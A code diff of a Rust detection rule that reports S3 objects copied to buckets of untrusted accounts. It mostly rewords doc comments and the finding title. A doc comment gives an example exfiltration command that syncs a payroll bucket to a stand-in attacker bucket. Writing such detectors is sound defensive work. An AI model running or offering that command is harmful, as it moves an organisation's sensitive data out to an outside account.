@@ -10,18 +10,18 @@ use crate::shared::{TrustedAccounts, UNNAMED, items, report, request};
 rule! {
     /// Reports objects being copied to a bucket of an account that is not trusted.
     ///
-    /// Seen where a trail logs S3 data events.
+    /// Needs a trail that logs S3 data events.
     ///
     /// # Why
-    /// A copy to another account's bucket needs no network of one's own and leaves at the speed of S3.
+    /// Copying between buckets needs no network access of the attacker's own, and is as fast as S3.
     ///
     /// # Example
-    /// `aws s3 sync s3://payroll s3://a-strangers-bucket`.
+    /// `aws s3 sync s3://payroll s3://attacker-bucket`.
     ///
     /// # Respond
-    /// Take the credentials away, and find out what else they copied: each object is an event.
+    /// Disable the credentials, and find out what else they copied: each object is an event.
     pub struct ObjectsCopiedToStranger = "objectsCopiedToStranger" {
-        /// Accounts to whose buckets objects may be copied, comma separated.
+        /// Accounts whose buckets objects may be copied to, comma separated.
         trusted_accounts: TrustedAccounts,
     }
 }
@@ -60,7 +60,12 @@ impl Rule for ObjectsCopiedToStranger {
         let bucket = request["bucketName"].as_str().unwrap_or(UNNAMED);
         let from = request["x-amz-copy-source"].as_str().unwrap_or(UNNAMED);
         let did = format!("copied {from} to the bucket {bucket} of account {owner}");
-        let finding = report(event, "Objects copied to a stranger", &did, bucket);
+        let finding = report(
+            event,
+            "Objects copied to an untrusted account",
+            &did,
+            bucket,
+        );
         Ok(finding.detail("from", from).detail("owner", owner).into())
     }
 }
